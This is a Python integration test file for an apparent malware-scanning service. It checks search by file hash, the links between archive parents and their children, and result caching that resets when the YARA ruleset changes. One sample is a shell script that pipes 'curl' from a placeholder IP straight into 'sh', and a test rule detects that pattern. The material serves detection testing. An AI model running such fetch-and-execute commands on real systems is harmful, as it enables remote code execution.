"""Search by hash and the result cache on a real node (Valkey, Celery, the real engine)."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import time
import zipfile
from pathlib import Path

import aiohttp

from tests.support.client import submit, wait_for_task
from worker.settings import DEFAULT_RULES_DIR

SEARCH = "/api/scanhub/v1/samples"


def zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


async def search(session: aiohttp.ClientSession, node_url: str, digest: str) -> dict:
    async with session.get(f"{node_url}{SEARCH}/{digest}") as response:
        assert response.status == 200, await response.text()
        return await response.json()


async def test_search_finds_a_sample_by_each_hash_and_a_child_leads_to_its_parent(worker_nodes):
    node = worker_nodes()
    child = b"#!/bin/sh\necho 'inside the archive'\n"
    archive = zipped("run.sh", child)
    async with aiohttp.ClientSession() as session:
        parent_url = await submit(session, node.url, archive, filename="mail.zip")
        parent = await wait_for_task(session, parent_url)
        assert len(parent["tc_report"]) == 2  # the zip and the script inside
        for digest in (hashlib.md5(archive), hashlib.sha1(archive), hashlib.sha256(archive)):
            found = await search(session, node.url, digest.hexdigest().upper())
            assert found["sha256"] == hashlib.sha256(archive).hexdigest()
            [entry] = found["tasks"]
            assert entry["task_url"] == parent_url and entry["found_as"] == "file"
            assert entry["status"] == "done" and entry["file_name"] == "mail.zip"
            assert entry["processed"] == parent["processed"]
            assert entry["classification"] == parent["tc_report"][0]["classification"]["classification"]
        direct_url = await submit(session, node.url, child, filename="run.sh")
        await wait_for_task(session, direct_url)
        found = await search(session, node.url, hashlib.md5(child).hexdigest())
        assert [(e["task_url"], e["found_as"]) for e in found["tasks"]] == [
            (direct_url, "file"),
            (parent_url, "child"),
        ]
        # A deleted task is no longer found; an unknown sample is an empty list; a bad hash is 400.
        assert (await session.delete(direct_url)).status == 200
        found = await search(session, node.url, hashlib.sha256(child).hexdigest())
        assert [e["task_url"] for e in found["tasks"]] == [parent_url]
        assert (await search(session, node.url, "0" * 64))["tasks"] == []
        for bad in ("abc", "z" * 32, "0" * 128):
            async with session.get(f"{node.url}{SEARCH}/{bad}") as response:
                assert response.status == 400
                assert "MD5, SHA1 or SHA256" in (await response.json())["message"]


async def analyzer_runs(session: aiohttp.ClientSession, node_url: str) -> float:
    async with session.get(f"{node_url}/metrics") as response:
        text = await response.text()
    for line in text.splitlines():
        if line.startswith('scanhub_analyzer_runs{analyzer="identify"}'):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


async def test_a_repeated_file_is_served_from_the_cache_until_the_ruleset_changes(
    worker_nodes, tmp_path: Path
):
    rules = tmp_path / "rules"
    shutil.copytree(DEFAULT_RULES_DIR, rules)
    node = worker_nodes(yara_rules_dir=str(rules), yara_check_interval_seconds="0.1")
    content = b"#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"
    async with aiohttp.ClientSession() as session:
        first = await wait_for_task(
            session, await submit(session, node.url, content, filename="x.sh", custom_data='{"n": 1}')
        )
        runs = await analyzer_runs(session, node.url)
        assert runs > 0 and "cached" not in first
        second_url = await submit(session, node.url, content, filename="x.sh", custom_data='{"n": 2}')
        second = await wait_for_task(session, second_url)
        assert second["cached"] is True and second["status"] == "done"
        assert second["task_id"] != first["task_id"] and second["custom_data"] == {"n": 2}
        assert second["tc_report"] == first["tc_report"]
        assert await analyzer_runs(session, node.url) == runs  # not analyzed again

        # What changes the report changes the key: another name, another password list.
        renamed = await wait_for_task(session, await submit(session, node.url, content, filename="y.sh"))
        passwords = json.dumps({"password_list": ["secret"]})
        with_passwords = await wait_for_task(
            session, await submit(session, node.url, content, filename="x.sh", user_data=passwords)
        )
        assert "cached" not in renamed and "cached" not in with_passwords

        # A new ruleset invalidates every entry.
        (rules / "site.yar").write_text('rule site_curl_pipe { strings: $a = "| sh" condition: $a }\n')
        time.sleep(0.3)
        third = await wait_for_task(session, await submit(session, node.url, content, filename="x.sh"))
        assert "cached" not in third
        assert third["tc_report"][0]["info"]["ruleset_id"] != first["tc_report"][0]["info"]["ruleset_id"]
        fourth = await wait_for_task(session, await submit(session, node.url, content, filename="x.sh"))
        assert fourth["cached"] is True and fourth["tc_report"] == third["tc_report"]


async def test_the_cache_is_off_at_zero_seconds(worker_nodes):
    node = worker_nodes(cache_seconds="0")
    async with aiohttp.ClientSession() as session:
        views = [
            await wait_for_task(session, await submit(session, node.url, b"same bytes", filename="s.txt"))
            for _ in range(2)
        ]
    assert all("cached" not in view for view in views)
    assert views[0]["task_id"] != views[1]["task_id"]
